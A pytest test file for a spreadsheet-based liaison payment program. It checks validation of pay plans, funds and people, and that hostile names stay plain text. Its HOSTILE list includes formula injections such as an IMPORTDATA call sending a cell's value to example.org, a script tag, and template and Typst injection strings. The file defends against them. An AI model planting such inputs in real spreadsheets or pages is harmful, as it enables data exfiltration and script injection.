"""People, plans and funds that cannot be right: whoever hangs on them waits and is told, everybody else is paid."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

import pytest

from tests.programs_in_sheet import PLAIN, Program, Programs, Ran, hours

ANA, JOSE = PLAIN["Liaisons"]
FUND, PLAN = PLAIN["Funds"][0], PLAIN["Pay plans"][0]


@dataclass(frozen=True)
class Case:
    """A person who hangs on something that is wrong: on a plan of their own, on a fund of its own, or their own row."""

    why: str
    tab: str
    column: str
    told: str = ""
    person: dict[str, Any] = field(default_factory=dict)
    plan: dict[str, Any] = field(default_factory=dict)
    second_term: bool = False
    fund: dict[str, Any] | None = None


CASES = (
    Case("a rate of 0", "Pay plans", "Rate", plan={"Rate": 0}),
    Case("no rate", "Pay plans", "Rate", plan={"Rate": None}),
    Case("text in a rate", "Pay plans", "Rate", "no amount", plan={"Rate": "forty"}),
    Case("a negative cap", "Pay plans", "Cap", "below zero", plan={"Cap": -5}),
    Case("an unknown kind", "Pay plans", "Kind", plan={"Kind": "Weekly"}),
    Case("two plans that overlap", "Pay plans", "From", second_term=True),
    Case("an unknown fund", "Pay plans", "Fund", plan={"Fund": "Nowhere"}),
    Case("a fund without a budget", "Funds", "Budget", fund={"Budget": None}),
    Case("text in a budget", "Funds", "Budget", "no amount", fund={"Budget": "plenty"}),
    Case("no plan", "Liaisons", "Pay plan", "missing", person={"Pay plan": None}),
    Case("an unknown plan", "Liaisons", "Pay plan", person={"Pay plan": "Volunteer"}),
    Case("text in Paid before", "Liaisons", "Paid before", "no amount", person={"Paid before": "some"}),
    Case("a start that is no day", "Liaisons", "From", "there is no", person={"From": "31 February 2026"}),
)


@dataclass(frozen=True)
class Town:
    """L-01 is as it should be; L-02 and on are the cases. What each case's row is, and what came of two runs."""

    program: Program
    ran: Ran
    again: Ran
    ids: dict[str, str]
    shown: dict[str, dict[str, dict[str, str]]]


@pytest.fixture(scope="module")
def town_of_cases(town_programs: Programs) -> Town:
    people, plans, funds, rows = [ANA], [PLAN], [FUND], [hours("2026-10-05", "L-01", "2:00")]
    ids = {}
    for number, case in enumerate(CASES, start=2):
        name = f"Plan {number}"
        own = bool(case.plan or case.second_term or case.fund is not None)
        if case.fund is not None:
            funds.append({**FUND, "Fund": f"Fund {number}", **case.fund})
        if own:
            fund = f"Fund {number}" if case.fund is not None else FUND["Fund"]
            plans.append({**PLAN, "Plan": name, "Fund": fund, **case.plan})
        if case.second_term:
            plans.append({**PLAN, "Plan": name, "From": "2026-01-01"})
        of_person = {"Name": f"Person {number}", "E-mail": f"p{number}@example.org"}
        people.append({**of_person, **({"Pay plan": name} if own else {}), **case.person})
        rows.append(hours("2026-10-06", f"L-{number:02d}", "3:00"))
        ids[case.why] = {
            "Liaisons": f"L-{number:02d}",
            "Pay plans": f"P-{len(plans):02d}",
            "Funds": f"F-{len(funds):02d}",
        }[case.tab]
    program = town_programs.make({"Liaisons": people, "Pay plans": plans, "Funds": funds, "Hours": rows})
    ran, again = program.run(), program.run()
    shown = {tab: {row["ID"]: row for row in program.rows(tab)} for tab in ("Liaisons", "Pay plans", "Funds", "Hours")}
    return Town(program, ran, again, ids, shown)


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.why)
def test_who_hangs_on_it_waits_and_is_told(case: Case, town_of_cases: Town) -> None:
    town, id_ = town_of_cases, town_of_cases.ids[case.why]
    told = [one for one in town.ran.problems(case.tab) if (one["id"], one["column"]) == (id_, case.column)]
    assert len(told) == 1, town.ran.json["problems"]
    assert case.told in told[0]["what"]
    shown = town.shown[case.tab][id_]
    assert told[0]["what"] in shown["Problem"]
    assert shown["#"] == str(told[0]["row"])
    row = town.shown["Hours"][f"H-{CASES.index(case) + 2:02d}"]
    assert row["Problem"] or row["Invoice"].startswith("waits"), row


def test_the_good_neighbour_is_paid(town_of_cases: Town) -> None:
    assert town_of_cases.ran.amounts() == {("L-01", "2026-10"): "80.00"}
    assert town_of_cases.again.json["calls"]["sheets"]["write"] == 0


def test_two_people_of_one_name(programs: Programs) -> None:
    """They are two: the id before the dot counts, never the name."""
    twin = {**JOSE, "Name": ANA["Name"]}
    program = programs.make(
        {
            "Liaisons": [ANA, twin],
            "Hours": [
                hours("2026-10-05", "L-01 · Ana Exemplo", "2:00"),
                hours("2026-10-05", "L-02 · Ana Exemplo", "2:00"),
                hours("2026-10-06", "Ana Exemplo", "2:00"),
            ],
        }
    )
    ran = program.run()
    assert ran.amounts() == {("L-01", "2026-10"): "80.00", ("L-02", "2026-10"): "80.00"}
    assert ran.problem("Hours", "H-03")["column"] == "Liaison"
    assert program.problem("Hours", "H-03").startswith("Liaison: ")


HOSTILE = {
    "a formula": '=IMPORTXML("http://example.org/","//a")',
    "an import": '=IMPORTDATA("http://example.org/?"&A1)',
    "Typst": "#let x = 1",
    "HTML": "<script>alert(1)</script>",
    "a template": "{{ 7*7 }}",
    "two lines": "Ana\r\nExemplo",
    "right to left": "\u202eolpmexE anA\u202c",
    "emoji": "Ana 👩‍👩‍👧‍👦 Exemplo 🎉",
    "500 characters": "Long name " * 50,
    "quotes and slashes": 'Ana "O\'Neill" \\ / ../../x',
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
}


@pytest.fixture(scope="module")
def hostile(town_programs: Programs) -> Program:
    """Names as a form would bring them: written as they are, never entered."""
    people = [{**ANA, "Name": name, "E-mail": f"p{i}@example.org"} for i, name in enumerate(HOSTILE.values())]
    ids = [f"L-{number:02d}" for number in range(1, len(people) + 1)]
    return town_programs.make(
        {
            "Liaisons": people,
            "Hours": [
                hours("2026-10-05", f"{id_} · {one['Name']}", "2:00") for id_, one in zip(ids, people, strict=True)
            ],
        },
        raw=True,
    )


def formulas(program: Program, *tabs: str) -> set[str]:
    """All formulas that stand on these tabs."""
    shown = program.sheet.values_batch_get(
        [f"'{tab}'!A1:Z100" for tab in tabs], params={"valueRenderOption": "FORMULA"}
    )
    cells = [str(cell) for block in shown["valueRanges"] for row in block.get("values", []) for cell in row]
    return {cell for cell in cells if cell.startswith("=")}


def test_names_of_all_kinds_are_paid_and_stay_text(hostile: Program) -> None:
    """Dates come out of a raw write as text, as a form writes them; each name stands where it stood."""
    ran = hostile.run()
    assert ran.amounts() == {(f"L-{number:02d}", "2026-10"): "80.00" for number in range(1, len(HOSTILE) + 1)}
    assert len(hostile.pdfs()) == len(HOSTILE)
    for row, name in zip(hostile.rows("Liaisons"), HOSTILE.values(), strict=True):
        assert row["Name"] == name
        assert row["Problem"] == ""
    for row in hostile.rows("Invoices"):
        assert row["Liaison"].startswith(f"{ran.json['invoices'][int(row['#']) - 2]['liaison']} · ")
    found = formulas(hostile, "Liaisons", "Hours", "Invoices", "Approvals", "Activity", "Jobs")
    assert found <= {HOSTILE["a formula"], HOSTILE["an import"]}
    for ours in formulas(hostile, "Start here"):
        assert ours.startswith(("=IFERROR(IF(AND($B$3>0", '=HYPERLINK("https://docs.google.com/spreadsheets/d/')), ours
        assert not any(name in ours for name in HOSTILE.values()), ours
    assert hostile.run().json["counts"]["done"] == 0


def test_no_name_in_a_file_name(hostile: Program) -> None:
    assert all(name.split()[1].startswith("L-") and len(name.split()) == 3 for name in hostile.pdfs())


def test_formulas_that_staff_type_are_read_as_what_they_show(programs: Programs) -> None:
    """A formula of staff's own is Sheets' business; what it shows is read, and nothing of it is written elsewhere."""
    program = programs.make({"Hours": [hours("=DATE(2026,10,5)", "L-01", "2:00", Note="=1+1")]})
    assert program.run().amounts() == {("L-01", "2026-10"): "80.00"}
